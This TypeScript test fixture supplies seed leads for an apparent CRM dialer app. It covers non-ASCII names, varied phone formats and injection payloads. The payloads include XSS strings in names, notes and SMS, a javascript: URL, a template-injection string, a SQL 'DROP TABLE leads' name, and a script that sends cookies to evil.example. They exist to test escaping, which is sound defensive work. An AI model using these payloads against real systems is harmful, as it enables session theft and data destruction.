/**
 * Hand-made leads that always come first (lowest ids) in every dataset, whatever the seed. They
 * pin down the cases tests and demos need to find without searching: non-ASCII names, every
 * phone spelling, unparseable phones, international numbers, and HTML/script payloads in every
 * free-text field (the UI must show those as text, never run them).
 */

export type FixtureRole = 'nonAscii' | 'xss' | 'unparseable' | 'recentCaller' | 'plain';

export interface FixtureLead {
  roles: FixtureRole[];
  firstName: string;
  lastName: string;
  email: string;
  phone: string;
  mobile: string;
  /** What a dialer would call, or null when nothing is callable. */
  dial: string | null;
  countryCode: string;
  company: string;
  website?: string;
  city: string;
  state: string;
  zip: string;
  custom: Record<string, string>;
  /** Notes attached to the lead, newest last, as [minutes before now, type, text]. */
  notes: ReadonlyArray<readonly [number, 'manual' | 'sms' | 'call' | 'system', string]>;
  /** Text messages as [minutes before now, direction, body]. */
  sms: ReadonlyArray<readonly [number, 'inbound' | 'outbound', string]>;
  /** Calls as [minutes before now, direction, seconds]; completed calls get a transcript. */
  calls: ReadonlyArray<readonly [number, 'inbound' | 'outbound', number]>;
}

export const XSS_NAME = '<img src=x onerror=alert(1)>';
export const XSS_LAST_NAME = '<script>alert("xss")</script>';
export const XSS_NOTE = `<svg/onload=alert('note')> Customer asked about <b>pricing</b>`;
export const XSS_SMS = `<img src=x onerror=alert('sms')> are you there?`;
/** A website that must never become a clickable link (only https/tel/sip/callto are allowed). */
export const JAVASCRIPT_URL = 'javascript:alert(document.domain)';

const NONE = [] as const;

export const FIXTURE_LEADS: readonly FixtureLead[] = [
  {
    roles: ['nonAscii', 'recentCaller'],
    firstName: 'José',
    lastName: 'García',
    email: 'jose.garcia@example.com',
    phone: '+1 (213) 555-0142',
    mobile: '2135550143',
    dial: '+12135550142',
    countryCode: '+1',
    company: 'Núñez & Hijos',
    city: 'Los Angeles',
    state: 'CA',
    zip: '90001',
    custom: { lead_source: 'Facebook', loan_amount: '250000' },
    notes: [
      [2880, 'manual', 'Called — left voicemail'],
      [1440, 'sms', 'SMS : Sent'],
      [30, 'manual', 'Prefiere hablar en español por la tarde.'],
    ],
    sms: [[3, 'outbound', 'Hola José, gracias por la llamada. ¿Le envío la cotización?']],
    calls: [
      [4, 'inbound', 185],
      [1500, 'outbound', 0],
    ],
  },
  {
    roles: ['nonAscii'],
    firstName: 'Zoë',
    lastName: 'Brontë',
    email: 'zoe.bronte@example.org',
    phone: '415.555.0178',
    mobile: '',
    dial: '+14155550178',
    countryCode: '+1',
    company: 'Björk Design Studio',
    city: 'San Francisco',
    state: 'CA',
    zip: '94103',
    custom: { age: '34' },
    notes: NONE,
    sms: [[600, 'inbound', 'Yes, interested 👍']],
    calls: [[620, 'outbound', 240]],
  },
  {
    roles: ['nonAscii'],
    firstName: 'Łukasz',
    lastName: 'Wróbel',
    email: 'lukasz.wrobel@example.net',
    phone: '+13125550199',
    mobile: '',
    dial: '+13125550199',
    countryCode: '+1',
    company: '',
    city: 'Chicago',
    state: 'IL',
    zip: '60601',
    custom: {},
    notes: [[4000, 'manual', 'Spoke with lead, wants a quote by Friday.']],
    sms: NONE,
    calls: [[4100, 'outbound', 95]],
  },
  {
    roles: ['nonAscii'],
    firstName: '芳',
    lastName: '王',
    email: 'wang.fang@example.com',
    phone: '6175550123',
    mobile: '',
    dial: '+16175550123',
    countryCode: '+1',
    company: '东方贸易',
    city: 'Boston',
    state: 'MA',
    zip: '02108',
    custom: { lead_source: 'Referral' },
    notes: NONE,
    sms: [[90, 'outbound', '王女士您好，请问今天方便通话吗？']],
    calls: NONE,
  },
  {
    roles: ['nonAscii'],
    firstName: 'Ольга',
    lastName: 'Иванова',
    email: 'olga.ivanova@example.com',
    phone: '+44 20 7946 0958',
    mobile: '',
    dial: '+442079460958',
    countryCode: '+44',
    company: '',
    city: 'London',
    state: '',
    zip: 'SW1A 1AA',
    custom: {},
    notes: NONE,
    sms: NONE,
    calls: [[7000, 'outbound', 0]],
  },
  {
    roles: ['nonAscii'],
    firstName: 'محمد',
    lastName: 'الأحمد',
    email: '',
    phone: '+52 55 1234 5678',
    mobile: '',
    dial: '+525512345678',
    countryCode: '+52',
    company: '',
    city: 'Ciudad de México',
    state: 'CDMX',
    zip: '06000',
    custom: {},
    notes: NONE,
    sms: NONE,
    calls: NONE,
  },
  {
    roles: ['xss'],
    firstName: XSS_NAME,
    lastName: XSS_LAST_NAME,
    email: 'xss.test@example.com',
    phone: '(303) 555-0166',
    mobile: '',
    dial: '+13035550166',
    countryCode: '+1',
    company: '"><iframe src=javascript:alert(1)>',
    city: 'Denver',
    state: 'CO',
    zip: '80202',
    custom: { notes: '<b>bold</b><script>alert(1)</script>' },
    notes: [[120, 'manual', XSS_NOTE]],
    sms: [
      [125, 'inbound', XSS_SMS],
      [121, 'outbound', 'Hi <img src=x onerror=alert(2)>, just following up on your inquiry.'],
    ],
    calls: [[1440, 'outbound', 64]],
  },
  {
    roles: ['xss'],
    // Little Bobby Tables: text that must reach SQLite as a bound value, never as SQL.
    firstName: "Robert'); DROP TABLE leads;--",
    lastName: 'Tables',
    email: 'bobby.tables@example.com',
    phone: '+1 512 555 0137',
    mobile: '',
    dial: '+15125550137',
    countryCode: '+1',
    company: '{{constructor.constructor("alert(1)")()}}',
    website: JAVASCRIPT_URL,
    city: 'Austin',
    state: 'TX',
    zip: '78701',
    custom: {},
    notes: [[400, 'manual', '<a href="javascript:alert(1)">click for details</a>']],
    sms: [[410, 'inbound', '<script>document.location="https://evil.example/?c="+document.cookie</script>']],
    calls: NONE,
  },
  {
    roles: ['unparseable'],
    firstName: 'Renée',
    lastName: "O'Connor-Smith",
    email: 'renee.oconnor@example.com',
    phone: 'call me after 5',
    mobile: '12345',
    dial: null,
    countryCode: '',
    company: 'Evergreen Dental',
    city: 'Portland',
    state: 'OR',
    zip: '97201',
    custom: {},
    notes: [[300, 'manual', 'Phone on file is not a number; ask for a callback number by email.']],
    sms: NONE,
    calls: NONE,
  },
  {
    roles: ['plain'],
    firstName: 'John',
    lastName: 'Doe',
    email: 'john@example.com',
    phone: '1-702-555-0110',
    mobile: '+1 (702) 555-0111',
    dial: '+17025550110',
    countryCode: '+1',
    company: 'Acme Realty',
    city: 'Las Vegas',
    state: 'NV',
    zip: '89101',
    custom: { age: '30', gender: 'Male' },
    notes: NONE,
    sms: NONE,
    calls: [[200, 'inbound', 42]],
  },
];
